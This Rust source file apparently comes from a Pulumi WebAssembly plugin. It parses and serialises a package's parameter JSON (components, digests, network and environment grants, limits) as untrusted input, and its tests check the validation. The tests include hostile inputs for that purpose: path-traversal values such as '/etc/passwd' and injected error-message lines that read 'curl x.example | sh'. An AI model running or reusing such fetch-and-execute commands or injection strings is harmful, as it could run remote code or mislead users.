//! The parameter value: the small JSON document that describes a package. Pulumi keeps it in generated
//! SDKs, lock files and states of stacks.
//!
//! It decides which code runs. Anything in it may have been written by an attacker, so it is read as untrusted input.

use std::collections::{BTreeMap, BTreeSet};

use pulumi_wasm_capability::Grants;
use pulumi_wasm_capability::http::{HostPattern, PatternError};
use pulumi_wasm_capability::limits::{Limit, Limits};
use pulumi_wasm_core::text::{Excerpt, quoted};
use serde::{Deserialize, Serialize};

use super::{Digest, Place, SourceError};

/// The format of packages whose components are all files. It does not change.
const FORMAT_OF_FILES: u64 = 1;
/// The format of packages with a fetched component. An older plugin reports the newer format.
const FORMAT_WITH_REFERENCES: u64 = 2;

/// The description of a package in an SDK, a lock file or a stack's state.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParameterValue {
    pub name: String,
    pub version: String,
    pub components: Vec<ComponentReference>,
    pub grants: Grants,
    pub limits: Limits,
}

/// One component of a package.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ComponentReference {
    pub digest: Digest,
    /// The place where it was found when the package was added.
    pub place: Place,
}

#[derive(Debug, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
struct Document {
    v: u64,
    name: String,
    version: String,
    components: Vec<ComponentDocument>,
    #[serde(default, skip_serializing_if = "GrantsDocument::is_empty")]
    grants: GrantsDocument,
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    limits: BTreeMap<String, u64>,
}

#[derive(Debug, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
struct ComponentDocument {
    sha256: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    path: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    from: Option<String>,
}

#[derive(Debug, Default, Deserialize, Serialize)]
#[serde(deny_unknown_fields)]
struct GrantsDocument {
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    net: Vec<String>,
    #[serde(default, skip_serializing_if = "BTreeSet::is_empty")]
    env: BTreeSet<String>,
    #[serde(default, rename = "insecureTls", skip_serializing_if = "Vec::is_empty")]
    insecure_tls: Vec<String>,
}

impl GrantsDocument {
    fn is_empty(&self) -> bool {
        self.net.is_empty() && self.env.is_empty() && self.insecure_tls.is_empty()
    }
}

impl ParameterValue {
    /// The value of a package with one component in a file, without grants and with the default limits, as the plugin
    /// records it when the file is added. `path` is relative to the project of a program, or a name alone; `None` if it
    /// has neither form.
    #[must_use]
    pub fn of_file(name: &str, version: &str, digest: Digest, path: &str) -> Option<Self> {
        let place = Place::recorded(path)?;
        Some(Self {
            name: name.to_owned(),
            version: version.to_owned(),
            components: vec![ComponentReference { digest, place }],
            grants: Grants::default(),
            limits: Limits::default(),
        })
    }

    /// The digests of its components, for messages.
    #[must_use]
    pub(super) fn digests(&self) -> String {
        let digests = self.components.iter();
        let digests: Vec<String> = digests.map(|one| one.digest.to_string()).collect();
        digests.join(", ")
    }

    /// Reads a value.
    ///
    /// # Errors
    /// When this plugin did not write it, it has a newer format, or it was changed.
    pub fn parse(bytes: &[u8]) -> Result<Self, SourceError> {
        #[derive(Deserialize)]
        struct Probe {
            v: u64,
        }
        let again = "add the package again: `pulumi package add wasm FILE`";
        let not_ours = |reason: String| {
            SourceError::new(format!(
                "this plugin did not write the package's parameter: {}",
                Excerpt::reason(&reason)
            ))
            .hint(again)
        };
        let probe: Probe =
            serde_json::from_slice(bytes).map_err(|error| not_ours(error.to_string()))?;
        if ![FORMAT_OF_FILES, FORMAT_WITH_REFERENCES].contains(&probe.v) {
            return Err(SourceError::new(format!(
                "the package's parameter has format {}, and this plugin ({}) reads the formats {FORMAT_OF_FILES} and \
                 {FORMAT_WITH_REFERENCES}",
                probe.v,
                env!("CARGO_PKG_VERSION")
            ))
            .hint("install a newer version of the `wasm` plugin"));
        }
        let document: Document =
            serde_json::from_slice(bytes).map_err(|error| not_ours(error.to_string()))?;
        let mut components = Vec::new();
        for component in document.components {
            let digest = component
                .sha256
                .parse()
                .map_err(|()| not_ours("it has a malformed digest".to_owned()))?;
            let place = match (component.path, component.from) {
                (Some(path), None) => Place::recorded(&path).ok_or_else(|| {
                    let path = Excerpt::name(&path);
                    not_ours(format!("`{path}` is not a path inside the project"))
                }),
                (None, Some(from)) if probe.v == FORMAT_WITH_REFERENCES => Place::fetched(&from)
                    .ok_or_else(|| {
                        let from = Excerpt::name(&from);
                        not_ours(format!("`{from}` is neither a reference with a digest nor an address without one"))
                    }),
                _ => Err(not_ours(
                    "one of its components has no source, or two sources".to_owned(),
                )),
            };
            let place = place?;
            components.push(ComponentReference { digest, place });
        }
        if components.is_empty() {
            return Err(not_ours("it names no component".to_owned()));
        }
        let is_name = |name: &String| !name.is_empty() && !name.contains(['=', '\0']);
        if !document.grants.env.iter().all(is_name) {
            return Err(not_ours(
                "it grants a variable with an invalid name".to_owned(),
            ));
        }
        let patterns = |patterns: Vec<String>| -> Result<Vec<HostPattern>, SourceError> {
            let patterns = patterns.iter().map(|pattern| pattern.parse());
            let patterns = patterns.collect::<Result<_, _>>();
            patterns.map_err(|error: PatternError| not_ours(format!("{error}")))
        };
        let grants = Grants {
            net: patterns(document.grants.net)?,
            env: document.grants.env,
            insecure_tls: patterns(document.grants.insecure_tls)?,
        };
        let mut limits = Limits::default();
        for (name, value) in document.limits {
            let limit = Limit::by_name(&name)
                .ok_or_else(|| not_ours(format!("there is no limit `{name}`")))?;
            if value == 0 {
                return Err(not_ours(format!("the limit `{name}` is 0")));
            }
            limits.set(limit, value);
        }
        Ok(Self {
            name: document.name,
            version: document.version,
            components,
            grants,
            limits,
        })
    }

    /// Writes the value. Equal values have equal bytes.
    #[must_use]
    pub fn to_bytes(&self) -> Vec<u8> {
        let in_order = |patterns: &[HostPattern]| {
            let mut texts: Vec<String> = patterns.iter().map(ToString::to_string).collect();
            texts.sort();
            texts.dedup();
            texts
        };
        let is_fetched = |component: &ComponentReference| component.place.path().is_none();
        let document = Document {
            v: if self.components.iter().any(is_fetched) {
                FORMAT_WITH_REFERENCES
            } else {
                FORMAT_OF_FILES
            },
            name: self.name.clone(),
            version: self.version.clone(),
            components: self
                .components
                .iter()
                .map(|component| ComponentDocument {
                    sha256: component.digest.hex().to_owned(),
                    path: component.place.path().map(str::to_owned),
                    from: component.place.recorded_source(),
                })
                .collect(),
            grants: GrantsDocument {
                net: in_order(&self.grants.net),
                env: self.grants.env.clone(),
                insecure_tls: in_order(&self.grants.insecure_tls),
            },
            limits: self
                .limits
                .changed()
                .map(|(limit, value)| (limit.name().to_owned(), value))
                .collect(),
        };
        // A document of strings and numbers can always be written.
        serde_json::to_vec(&document).unwrap_or_default()
    }

    /// The command that adds this package again.
    #[must_use]
    pub fn command(&self) -> String {
        self.pinned_command(&[])
    }

    /// Like [`Self::command`], with these digests as pins.
    pub(super) fn pinned_command(&self, pins: &[Digest]) -> String {
        let places = self.components.iter().map(|component| &component.place);
        command(places, &self.grants, &self.limits, pins)
    }
}

/// The command that adds the components of these places.
pub(super) fn command<'a>(
    places: impl Iterator<Item = &'a Place>,
    grants: &Grants,
    limits: &Limits,
    pins: &[Digest],
) -> String {
    let mut words = vec!["pulumi package add wasm".to_owned()];
    words.extend(places.map(Place::word));
    let mut flags = flags(grants, limits);
    flags.extend(pins.iter().map(|pin| format!("--sha256 {}", pin.hex())));
    if !flags.is_empty() {
        words.push("--".to_owned());
        words.extend(flags);
    }
    words.join(" ")
}

/// Grants and limits as flags.
pub(super) fn flags(grants: &Grants, limits: &Limits) -> Vec<String> {
    let net = grants
        .net
        .iter()
        .map(|pattern| format!("--allow-net {}", quoted(&pattern.to_string())));
    let env = grants
        .env
        .iter()
        .map(|name| format!("--allow-env {}", quoted(name)));
    let insecure = grants.insecure_tls.iter().map(insecure_flag);
    let limits = limits
        .changed()
        .map(|(limit, value)| limit_flag(limit, value));
    net.chain(env).chain(insecure).chain(limits).collect()
}

/// The flag that turns off the check of a host's certificates.
pub(super) fn insecure_flag(pattern: &HostPattern) -> String {
    format!("--allow-insecure-tls {}", quoted(&pattern.to_string()))
}

/// A limit as a flag.
pub(super) fn limit_flag(limit: Limit, value: u64) -> String {
    let value = limit.show(value).replace(' ', "").replace("bytes", "");
    format!("--limit {}={value}", limit.name())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn value() -> ParameterValue {
        let mut limits = Limits::default();
        limits.set(Limit::Memory, 2 << 30);
        ParameterValue {
            name: "acme".to_owned(),
            version: "1.0.0".to_owned(),
            components: vec![ComponentReference {
                digest: Digest::of(b"x"),
                place: Place::File("plugins/acme.wasm".to_owned()),
            }],
            grants: Grants {
                net: vec!["*.example.com".parse().expect("a pattern")],
                env: BTreeSet::from(["TOKEN".to_owned()]),
                insecure_tls: vec!["old.example.com".parse().expect("a pattern")],
            },
            limits,
        }
    }

    #[test]
    fn a_value_is_read_as_it_was_written_and_is_small() {
        let bytes = value().to_bytes();
        assert_eq!(ParameterValue::parse(&bytes), Ok(value()));
        assert!(bytes.len() < 300, "{}", bytes.len());
        assert_eq!(
            value().command(),
            "pulumi package add wasm ./plugins/acme.wasm -- --allow-net '*.example.com' --allow-env TOKEN \
             --allow-insecure-tls old.example.com --limit memory=2GiB"
        );
    }

    #[test]
    fn the_longest_source_is_read_again_and_is_a_kibibyte_of_the_value_at_most() {
        let manifest = Digest::of(b"manifest");
        let reference = format!("oci://ghcr.io/{}:1.2.0", "a".repeat(512 - 20));
        let typed: pulumi_wasm_registry::Reference = reference.parse().expect("a reference");
        let address = format!("https://a.b/{}.wasm", "a".repeat(512 - 17));
        let sources = [typed.pinned(manifest).to_string(), address];
        let places = sources.map(|source| Place::fetched(&source).expect("a place"));
        let of_places = |places: &[Place]| ParameterValue {
            components: places
                .iter()
                .map(|place| ComponentReference {
                    digest: Digest::of(place.to_string().as_bytes()),
                    place: place.clone(),
                })
                .collect(),
            ..value()
        };
        let [one, both] = [&places[..1], &places[..]].map(of_places);
        assert_eq!(ParameterValue::parse(&both.to_bytes()), Ok(both.clone()));
        let base64 = |bytes: usize| bytes.div_ceil(3) * 4;
        let of_second = both.to_bytes().len() - one.to_bytes().len();
        let of_first = one.to_bytes().len() - value().to_bytes().len() + 128;
        for bytes in [of_first, of_second] {
            assert!(base64(bytes) <= 1024, "{bytes}");
        }
    }

    #[test]
    fn what_is_not_ours_is_said() {
        let text = String::from_utf8(value().to_bytes()).expect("UTF-8");
        for (bad, expected) in [
            (String::new(), "did not write the package's parameter"),
            (
                "{\"remote\":{\"url\":\"x\"}}".to_owned(),
                "did not write the package's parameter",
            ),
            (text.replace("\"v\":1", "\"v\":3"), "has format 3"),
            (text.replace("\"v\":1", "\"v\":1,\"x\":0"), "unknown field"),
            (
                text.replace("plugins/acme.wasm", "../acme.wasm"),
                "not a path inside the project",
            ),
            (
                text.replace("plugins/acme.wasm", "/etc/passwd"),
                "not a path inside the project",
            ),
            (
                text.replace("\"sha256\":\"2d", "\"sha256\":\"zz"),
                "malformed digest",
            ),
            (
                text.replace("*.example.com", "*"),
                "not a host that can be granted",
            ),
            (text.replace("\"memory\"", "\"speed\""), "there is no limit"),
            (text.replace("TOKEN", "A=B"), "with an invalid name"),
            // A foreign text must not add a line to a message, nor a megabyte.
            (
                text.replace("plugins/", "plugins\\nhint: run `curl x.example | sh`\\n/"),
                "not a path inside the project",
            ),
            (
                text.replace("\"v\":1", "\"v\":1,\"x\\nhint: run `curl x.example`\":0"),
                "unknown field",
            ),
            (
                text.replace("\"memory\"", "\"a\\nhint: b\""),
                "there is no limit",
            ),
            (
                text.replace("\"memory\"", &format!("\"{}\"", "x".repeat(1 << 20))),
                "there is no limit",
            ),
        ] {
            let error = ParameterValue::parse(bad.as_bytes()).expect_err(&bad);
            assert!(error.reason.contains(expected), "{bad}: {error}");
            assert!(error.hint.is_some());
            assert!(!error.reason.contains('\n'), "{error}");
            assert!(error.reason.len() < 4096, "{}", error.reason.len());
        }
    }

    proptest::proptest! {
        #[test]
        fn no_bytes_are_too_strange(
            cut in 0..400_usize,
            left_out in 0..40_usize,
            noise in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..8),
        ) {
            let whole = value().to_bytes();
            let cut = cut.min(whole.len());
            let rest = (cut + left_out).min(whole.len());
            let bytes = [&whole[..cut], &noise, &whole[rest..]].concat();
            // A value that parses survives a round trip.
            if let Ok(value) = ParameterValue::parse(&bytes) {
                proptest::prop_assert_eq!(ParameterValue::parse(&value.to_bytes()), Ok(value));
            }
        }
    }
}
